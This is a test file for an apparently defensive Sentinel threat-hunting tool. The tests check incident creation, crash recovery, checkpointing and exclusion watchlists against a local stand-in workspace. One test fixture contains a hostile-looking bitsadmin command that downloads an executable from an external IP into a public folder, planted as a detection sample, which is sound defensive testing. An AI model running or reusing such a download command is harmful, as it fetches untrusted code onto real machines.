import { readFileSync } from 'node:fs';
import { afterEach, describe, expect, it } from 'vitest';
import { LogsQueryClient } from '@azure/monitor-query-logs';
import { startLogAnalyticsServer } from '../../local/logAnalytics/startLogAnalyticsServer.js';
import { parseCidrList } from '../../src/exclusions/exclusionInput.js';
import { runHunt, type HuntDependencies } from '../../src/hunt/runHunt.js';
import type { StateStore } from '../../src/state/stateStore.js';
import { createWatchlist } from '../sentinel/sentinelFixtures.js';
import { FIXTURE_EXTERNAL_IPS, FIXTURE_NOW, FIXTURE_WINDOW, fixtureTable, startHuntWorkspace, type HuntWorkspace } from '../support/huntWorkspace.js';

/** The community query as shipped, byte for byte. */
const SEED_QUERY = readFileSync(new URL('../../queries/seed.kql', import.meta.url), 'utf8');

let hw: HuntWorkspace | undefined;
afterEach(async () => {
  await hw?.close();
  hw = undefined;
});

function resources(w: HuntWorkspace, kind: string): number {
  return w.workspace.sentinel.store.count(kind as never);
}

describe('runHunt through the real clients and the local workspace', () => {
  it('creates one incident with entities for exactly the expected IPs on the first run', async () => {
    hw = await startHuntWorkspace();
    const summary = await runHunt(hw.deps(), { trigger: 'cli' });

    expect(summary.window).toMatchObject({ start: '2026-11-20T00:00:00.000Z', end: '2026-11-21T00:00:00.000Z', source: 'scheduled' });
    expect([...summary.newIps].sort()).toEqual(FIXTURE_EXTERNAL_IPS);
    expect(summary.excluded.map((e) => e.ip)).toEqual(['168.63.129.16']);
    expect(summary.incidents.map((i) => i.action)).toEqual(['created', 'created', 'created', 'created']);
    expect(summary.checkpoint).toMatchObject({ previous: null, next: '2026-11-21T00:00:00.000Z', advanced: true });
    expect(resources(hw, 'incident')).toBe(4);
    expect(resources(hw, 'bookmark')).toBe(4);
    expect(resources(hw, 'relation')).toBe(4);

    // The incident for 45.9.148.3 carries the IP, both hosts and both accounts as entities.
    const incident = summary.incidents.find((i) => i.ip === '45.9.148.3')!;
    const deps = hw.deps();
    const { config } = deps;
    const { createSecurityInsightsClient } = await import('../../src/sentinel/index.js');
    const client = createSecurityInsightsClient(config.sentinel, { ...hw.workspace.dependencyOptions, credential: hw.workspace.dependencyOptions.credential! });
    const entities = await client.incidents.listEntities(config.sentinel.resourceGroup, config.sentinel.workspaceName, incident.incidentId!);
    const kinds = (entities.entities ?? []).map((e) => e.kind).sort();
    expect(kinds).toEqual(['Account', 'Account', 'Host', 'Host', 'Ip']);
  });

  it('creates nothing on a second run over the same events', async () => {
    hw = await startHuntWorkspace();
    const deps = hw.deps();
    await runHunt(deps, { trigger: 'cli', window: FIXTURE_WINDOW });
    const writes = hw.workspace.sentinel.requests.filter((r) => r.method === 'PUT').length;
    const second = await runHunt(deps, { trigger: 'cli', window: FIXTURE_WINDOW });
    expect(second.newIps).toEqual([]);
    expect([...second.resightedIps].sort()).toEqual(FIXTURE_EXTERNAL_IPS);
    expect(second.incidents).toHaveLength(FIXTURE_EXTERNAL_IPS.length);
    for (const incident of second.incidents) expect(incident).toMatchObject({ action: 'unchanged', reason: 'nothing-new' });
    expect(hw.workspace.sentinel.requests.filter((r) => r.method === 'PUT').length).toBe(writes);
    expect(resources(hw, 'incident')).toBe(4);
  });

  it('comments on the open incident when a known IP shows up on a new host', async () => {
    hw = await startHuntWorkspace();
    const deps = hw.deps();
    await runHunt(deps, { trigger: 'cli', window: FIXTURE_WINDOW });
    const more = await startLogAnalyticsServer({
      tables: {
        SecurityEvent: fixtureTable([
          {
            TimeGenerated: '2026-11-20T20:00:00Z',
            Computer: 'WS9.contoso.com',
            Account: 'CONTOSO\\mallory',
            EventID: 4688,
            Process: 'cmd.exe',
            CommandLine: 'cmd.exe /c bitsadmin /transfer j http://45.9.148.3/b.exe C:\\Users\\Public\\b.exe',
          },
        ]),
      },
      now: () => FIXTURE_NOW,
    });
    try {
      const logs = new LogsQueryClient(hw.workspace.dependencyOptions.credential!, {
        endpoint: more.endpoint,
        credentials: { scopes: ['https://api.loganalytics.io/.default'] },
        httpClient: hw.workspace.dependencyOptions.httpClient!,
      });
      const summary = await runHunt({ ...deps, logs }, { trigger: 'cli', window: FIXTURE_WINDOW });
      const updated = summary.incidents.find((i) => i.ip === '45.9.148.3');
      expect(updated).toMatchObject({ action: 'updated' });
      expect(summary.incidents.filter((i) => i.action === 'updated')).toHaveLength(1);
      const comments = hw.workspace.sentinel.store.all('comment');
      expect(comments).toHaveLength(1);
      expect(JSON.stringify(comments[0])).toContain('WS9.contoso.com');
      expect(JSON.stringify(comments[0])).not.toContain('WS1.contoso.com');
      expect(resources(hw, 'incident')).toBe(4);
    } finally {
      await more.close();
    }
  });

  it('fails naming the missing query permission when Log Analytics answers 403, and keeps the checkpoint', async () => {
    hw = await startHuntWorkspace();
    hw.workspace.logAnalytics.behaviour.denyQuery = true;
    const deps = hw.deps();
    await expect(runHunt(deps, { trigger: 'timer' })).rejects.toMatchObject({
      name: 'ServiceError',
      statusCode: 403,
      message: expect.stringContaining("(permission denied: the app's identity needs Microsoft.OperationalInsights/workspaces/query/read on the Log Analytics workspace"),
    });
    expect(await deps.state.getCheckpoint()).toBeUndefined();
  });

  it('keeps the checkpoint when the query returns a partial failure', async () => {
    hw = await startHuntWorkspace();
    hw.workspace.logAnalytics.faults.next({ kind: 'partial', message: 'a shard timed out' });
    const deps = hw.deps();
    const summary = await runHunt(deps, { trigger: 'timer' });
    expect(summary.checkpoint.advanced).toBe(false);
    expect(summary.checkpoint.note).toMatch(/partial/);
    expect(summary.failures).toContainEqual(expect.objectContaining({ stage: 'query' }));
    expect(await deps.state.getCheckpoint()).toBeUndefined();
    const retry = await runHunt(deps, { trigger: 'timer' });
    expect(retry.checkpoint.advanced).toBe(true);
    expect(retry.window.start).toBe(summary.window.start);
  });

  it('keeps the first window where the first run put it while no checkpoint exists', async () => {
    hw = await startHuntWorkspace();
    hw.workspace.logAnalytics.faults.next({ kind: 'partial', message: 'a shard timed out' });
    const first = await runHunt(hw.deps(), { trigger: 'timer' });
    expect(first.checkpoint.advanced).toBe(false);
    const later = await runHunt(hw.deps({}, new Date(FIXTURE_NOW.getTime() + 6 * 3_600_000)), { trigger: 'timer' });
    expect(later.window.start).toBe(first.window.start);
    expect([...later.newIps].sort()).toEqual(FIXTURE_EXTERNAL_IPS);
  });

  it('skips a part that fails the same way in HUNT_MAX_SEGMENT_ATTEMPTS runs, says so, and moves on', async () => {
    hw = await startHuntWorkspace();
    hw.workspace.logAnalytics.faults.next({ kind: 'partial', message: 'a shard is gone' }, { times: 3 });
    const settings = { HUNT_MAX_SEGMENT_ATTEMPTS: '3' };
    const runs = [];
    for (let i = 0; i < 3; i++) runs.push(await runHunt(hw.deps(settings), { trigger: 'timer' }));
    const deps = hw.deps(settings);
    for (const held of runs.slice(0, 2)) {
      expect(held.checkpoint.advanced).toBe(false);
      expect(held.skippedSegments).toEqual([]);
    }
    expect(runs[2]!.skippedSegments).toEqual([
      { start: FIXTURE_WINDOW.start.toISOString(), end: FIXTURE_WINDOW.end.toISOString(), attempts: 3, error: expect.stringMatching(/a shard is gone/) },
    ]);
    expect(runs[2]!.checkpoint).toMatchObject({ advanced: true, next: FIXTURE_WINDOW.end.toISOString() });
    expect(await deps.state.getSkipped()).toEqual([expect.objectContaining({ start: FIXTURE_WINDOW.start, end: FIXTURE_WINDOW.end, attempts: 3 })]);
    expect(await deps.state.getProgress()).toEqual({});

    // An explicit window over it replays it.
    const replay = await runHunt(deps, { trigger: 'http', window: FIXTURE_WINDOW });
    expect(replay.failures).toEqual([]);
    expect(await deps.state.getSkipped()).toEqual([]);
  });

  it('splits a result too large for the service and still finds every IP', async () => {
    hw = await startHuntWorkspace({ logAnalytics: { maxResultRows: 2 } });
    const summary = await runHunt(hw.deps(), { trigger: 'timer' });
    expect(summary.query.segments.length).toBeGreaterThan(2);
    for (const segment of summary.query.segments) expect(segment.rows, `rows of segment ${segment.start}/${segment.end}`).toBeLessThanOrEqual(2);
    expect(summary.query.partialFailures).toEqual([]);
    expect([...summary.newIps].sort()).toEqual(FIXTURE_EXTERNAL_IPS);
    expect(summary.checkpoint.advanced).toBe(true);
  });

  it('neither duplicates nor loses an incident when the run crashes between publishing and recording state', async () => {
    hw = await startHuntWorkspace();
    const deps = hw.deps();
    let crashes = 1;
    const crashing: StateStore = Object.assign(Object.create(Object.getPrototypeOf(deps.state)), deps.state, {
      putSeen: async (...args: Parameters<StateStore['putSeen']>) => {
        if (crashes-- > 0) throw new Error('injected crash before the state write');
        return deps.state.putSeen(...args);
      },
    });
    const crashingDeps: HuntDependencies = { ...deps, state: crashing };
    await expect(runHunt(crashingDeps, { trigger: 'timer' })).rejects.toThrow(/injected crash/);
    expect(resources(hw, 'incident')).toBe(4);
    // The window was recorded before publishing: its findings are pending and the checkpoint is past it.
    expect(await deps.state.getCheckpoint()).toEqual(FIXTURE_WINDOW.end);
    expect((await deps.state.getPending()).map((f) => f.ip).sort()).toEqual(FIXTURE_EXTERNAL_IPS);

    const rerun = await runHunt(crashingDeps, { trigger: 'timer' });
    expect([...rerun.newIps].sort()).toEqual(FIXTURE_EXTERNAL_IPS);
    expect([...rerun.carriedOverIps].sort()).toEqual(FIXTURE_EXTERNAL_IPS);
    expect(resources(hw, 'incident')).toBe(4);
    expect(resources(hw, 'bookmark')).toBe(4);
    expect(resources(hw, 'relation')).toBe(4);
    expect(await deps.state.getPending()).toEqual([]);
    const third = await runHunt(crashingDeps, { trigger: 'cli', window: FIXTURE_WINDOW });
    expect(third.newIps).toEqual([]);
  });

  it('counts a part’s events once when a run is killed between recording its pending findings and moving the checkpoint', async () => {
    const clean = await startHuntWorkspace();
    const counts = (summary: { findings: readonly { ip: string; eventCount: number }[] }) =>
      summary.findings.map((f) => ({ ip: f.ip, eventCount: f.eventCount })).sort((a, b) => (a.ip < b.ip ? -1 : 1));
    const expected = counts(await runHunt(clean.deps(), { trigger: 'timer' }));
    await clean.close();
    expect(expected).not.toHaveLength(0);

    hw = await startHuntWorkspace();
    const deps = hw.deps();
    const killed: HuntDependencies = {
      ...deps,
      state: Object.assign(Object.create(Object.getPrototypeOf(deps.state)), deps.state, {
        setCheckpoint: async () => {
          throw new Error('injected kill before the checkpoint moved');
        },
      }),
    };
    await expect(runHunt(killed, { trigger: 'timer' })).rejects.toThrow(/injected kill/);
    expect(await deps.state.getCheckpoint()).toBeUndefined();
    expect((await deps.state.getPending()).map((f) => f.ip).sort()).toEqual(FIXTURE_EXTERNAL_IPS);

    const rerun = await runHunt(deps, { trigger: 'timer' });
    expect(counts(rerun)).toEqual(expected);
    expect(resources(hw, 'incident')).toBe(4);
  });

  it('keeps what the analyst did to an incident when a rerun recovers from a crash after publishing', async () => {
    hw = await startHuntWorkspace();
    const deps = hw.deps();
    const crashing: HuntDependencies = {
      ...deps,
      state: Object.assign(Object.create(Object.getPrototypeOf(deps.state)), deps.state, {
        putSeen: async () => {
          throw new Error('injected crash before the state write');
        },
      }),
    };
    await expect(runHunt(crashing, { trigger: 'timer' })).rejects.toThrow(/injected crash/);

    // The analyst triages one of the incidents before the next run.
    const { createSecurityInsightsClient } = await import('../../src/sentinel/index.js');
    const { sentinel } = deps.config;
    const client = createSecurityInsightsClient(sentinel, { ...hw.workspace.dependencyOptions, credential: hw.workspace.dependencyOptions.credential! });
    const incidents = [];
    for await (const incident of client.incidents.list(sentinel.resourceGroup, sentinel.workspaceName)) incidents.push(incident);
    const target = incidents.find((i) => i.title?.includes('45.9.148.3'))!;
    await client.incidents.createOrUpdate(sentinel.resourceGroup, sentinel.workspaceName, target.name!, {
      ...target,
      status: 'Active',
      owner: { email: 'analyst@contoso.com' },
    });

    const rerun = await runHunt(deps, { trigger: 'timer' });
    expect([...rerun.newIps].sort()).toEqual(FIXTURE_EXTERNAL_IPS);
    const after = await client.incidents.get(sentinel.resourceGroup, sentinel.workspaceName, target.name!);
    expect(after.status).toBe('Active');
    expect(after.owner?.email).toBe('analyst@contoso.com');
    expect(resources(hw, 'incident')).toBe(4);
    expect(resources(hw, 'relation')).toBe(4);
    expect(await deps.state.getInFlight()).toEqual(new Set());
  });

  it('retries a new IP whose publishing failed halfway without overwriting the incident it already wrote', async () => {
    hw = await startHuntWorkspace();
    const deps = hw.deps();
    // A 400 is not retried by the SDK: the first relation PUT fails after its bookmark and incident were written.
    hw.workspace.sentinel.faults.next({ kind: 'status', status: 400, code: 'BadRequest', message: 'injected' }, { match: (r) => r.method === 'PUT' && r.path.includes('/relations/') });
    const first = await runHunt(deps, { trigger: 'timer' });
    const failed = first.failures.filter((f) => f.stage === 'publish').map((f) => f.ip);
    expect(failed).toHaveLength(1);
    expect(await deps.state.getInFlight()).toEqual(new Set(failed));
    expect(resources(hw, 'incident')).toBe(4);
    expect(resources(hw, 'relation')).toBe(3);

    const second = await runHunt(hw.deps({}, new Date(FIXTURE_NOW.getTime() + 3_600_000)), { trigger: 'timer' });
    expect(second.carriedOverIps).toEqual(failed);
    expect(second.incidents.find((i) => i.ip === failed[0])).toMatchObject({ action: 'unchanged', detail: expect.stringMatching(/interrupted run/) });
    expect(resources(hw, 'incident')).toBe(4);
    expect(resources(hw, 'relation')).toBe(4);
    expect(await deps.state.getInFlight()).toEqual(new Set());
    expect(await deps.state.getPending()).toEqual([]);
  });

  it('carries failed and over-the-cap IPs to the next run even though the checkpoint moves', async () => {
    hw = await startHuntWorkspace();
    const deps = hw.deps({ PUBLISH_MAX_INCIDENTS_PER_RUN: '2' });
    const first = await runHunt(deps, { trigger: 'timer' });
    expect(first.deferredIps).toHaveLength(2);
    expect(first.checkpoint.advanced).toBe(true);
    const second = await runHunt(hw.deps({ PUBLISH_MAX_INCIDENTS_PER_RUN: '2' }, new Date(FIXTURE_NOW.getTime() + 3_600_000)), { trigger: 'timer' });
    expect([...second.carriedOverIps].sort()).toEqual([...first.deferredIps].sort());
    expect(second.incidents.filter((i) => i.action === 'created').map((i) => i.ip).sort()).toEqual([...first.deferredIps].sort());
    expect(resources(hw, 'incident')).toBe(4);
    expect(await deps.state.getPending()).toEqual([]);
  });

  it('hides a carried-over IP matched by a request’s own exclusions from that run only, keeping it pending for the next', async () => {
    hw = await startHuntWorkspace();
    const first = await runHunt(hw.deps({ PUBLISH_MAX_INCIDENTS_PER_RUN: '2' }), { trigger: 'timer' });
    expect(first.deferredIps).toHaveLength(2);
    const hidden = first.deferredIps[0]!;
    const later = new Date(FIXTURE_NOW.getTime() + 3_600_000);
    const onDemand = await runHunt(hw.deps({ PUBLISH_MAX_INCIDENTS_PER_RUN: '2' }, later), {
      trigger: 'http',
      lookbackMs: 60_000,
      extraExclusions: { cidrs: parseCidrList(hidden).cidrs, rules: [] },
    });
    expect(onDemand.findings.map((f) => f.ip)).not.toContain(hidden);
    expect((await hw.deps().state.getPending()).map((f) => f.ip)).toContain(hidden);

    const next = await runHunt(hw.deps({}, new Date(later.getTime() + 3_600_000)), { trigger: 'timer' });
    expect(next.incidents).toContainEqual(expect.objectContaining({ ip: hidden, action: 'created' }));
    expect(resources(hw, 'incident')).toBe(4);
  });

  it('stops at its time budget and lets the next runs finish the backlog, one incident per IP', { timeout: 120_000 }, async () => {
    hw = await startHuntWorkspace({ logAnalytics: { maxResultRows: 2 } });
    // A slow Log Analytics: every query takes 40 s and reading gets half the budget, so each run reads one part, then stops.
    const queries = hw.workspace.logAnalytics.requests;
    const summaries = [];
    for (let run = 0; run < 40; run++) {
      const deps = { ...hw.deps({ HUNT_TIME_BUDGET: 'PT2M' }, new Date(FIXTURE_NOW.getTime() + run)), elapsed: () => queries.length * 40_000 };
      const summary = await runHunt(deps, { trigger: 'timer' });
      summaries.push(summary);
      if (!summary.budgetExhausted) break;
    }
    expect(summaries.length).toBeGreaterThan(2);
    expect(summaries[0]).toMatchObject({ budgetExhausted: true, remaining: { window: { end: '2026-11-21T00:00:00.000Z' } } });
    expect(summaries.at(-1)!.budgetExhausted).toBe(false);
    const created = summaries.flatMap((s) => s.incidents.filter((i) => i.action === 'created').map((i) => i.ip));
    expect(created.sort()).toEqual(FIXTURE_EXTERNAL_IPS);
    expect(resources(hw, 'incident')).toBe(4);
    expect(await hw.deps().state.getPending()).toEqual([]);
  });

  it('excludes what the SOC lists in the exclusion watchlist, with the reason given there', async () => {
    hw = await startHuntWorkspace();
    const deps = hw.deps({ EXCLUSION_WATCHLIST: 'ip-allowlist' });
    const { createSecurityInsightsClient } = await import('../../src/sentinel/index.js');
    const client = createSecurityInsightsClient(deps.config.sentinel, { ...hw.workspace.dependencyOptions, credential: hw.workspace.dependencyOptions.credential! });
    await createWatchlist(client, deps.config.sentinel, 'ip-allowlist', [
      { IPAddress: '45.9.148.0/24', Reason: 'red team infrastructure' },
      { IPAddress: 'nonsense' },
    ]);
    const summary = await runHunt(deps, { trigger: 'cli', window: FIXTURE_WINDOW, dryRun: true });
    expect(summary.newIps).not.toContain('45.9.148.3');
    expect(summary.newIps).toHaveLength(3);
    expect(summary.excluded).toContainEqual(expect.objectContaining({ ip: '45.9.148.3', rule: 'watchlist ip-allowlist 45.9.148.0/24', reason: 'red team infrastructure' }));
    expect(summary.exclusionProblems).toEqual([expect.stringMatching(/"nonsense" is not a valid address/)]);
  });

  it('fails the run when the exclusion watchlist cannot be read, leaving the checkpoint', async () => {
    hw = await startHuntWorkspace();
    const deps = hw.deps({ EXCLUSION_WATCHLIST: 'missing' });
    await expect(runHunt(deps, { trigger: 'timer' })).rejects.toThrow(/Read exclusion watchlist missing .* failed \(404\)/);
    expect(await deps.state.getCheckpoint()).toBeUndefined();
    expect(resources(hw, 'incident')).toBe(0);
  });

  it('publishes nothing and changes no state in a dry run, yet returns the payloads', async () => {
    hw = await startHuntWorkspace();
    const deps = hw.deps();
    const summary = await runHunt(deps, { trigger: 'cli', dryRun: true });
    expect(summary.dryRun).toBe(true);
    expect(summary.newIps).toHaveLength(4);
    expect(summary.payloads).toHaveLength(4);
    expect(JSON.stringify(summary.payloads)).toContain('entityMappings');
    expect(hw.workspace.sentinel.requests.filter((r) => r.method === 'PUT')).toHaveLength(0);
    expect(await deps.state.getCheckpoint()).toBeUndefined();
  });

  it('sends the seed query verbatim in seed mode and still re-extracts the addresses', async () => {
    const line = (CommandLine: string) => ({ TimeGenerated: '2026-11-20T16:00:00Z', Computer: 'WS6.contoso.com', Account: 'CONTOSO\\frank', EventID: 4688, Process: 'cmd.exe', CommandLine });
    // The seed finds 8.8.8.81 but not 8.8.8.8 (a one-digit last octet before the end of the line never matches).
    hw = await startHuntWorkspace({ tables: { SecurityEvent: fixtureTable([line('cmd.exe /c ping 8.8.8.81 -n 1'), line('cmd.exe /c ping 8.8.8.8')]) } });
    const summary = await runHunt(hw.deps({ HUNT_QUERY: 'seed' }), { trigger: 'cli', window: FIXTURE_WINDOW, dryRun: true });

    const queries = hw.workspace.logAnalytics.requests.map((r) => r.body);
    expect(queries[0]).toEqual({ query: SEED_QUERY, timespan: '2026-11-20T00:00:00.000Z/2026-11-21T00:00:00.000Z' });
    // Then one evidence query for the one finding to publish; this workspace has none of its tables.
    expect(queries).toHaveLength(2);
    expect(summary.evidence).toMatchObject({ roundTrips: 1, skippedSources: expect.arrayContaining(['DeviceNetworkEvents', 'ThreatIntelIndicators']) });
    expect(summary.queryMode).toBe('seed');
    // The seed's own defects (URLs, UNC paths and host:port dropped, cmd/powershell only) leave two rows of the fixture's
    // eleven: the Azure platform address, which the core then excludes, and the planted 8.8.8.81.
    expect(summary.rows).toBe(2);
    expect(summary.newIps).toEqual(['8.8.8.81']);
    expect(summary.excluded.map((e) => e.ip)).toEqual(['168.63.129.16']);
  });
});
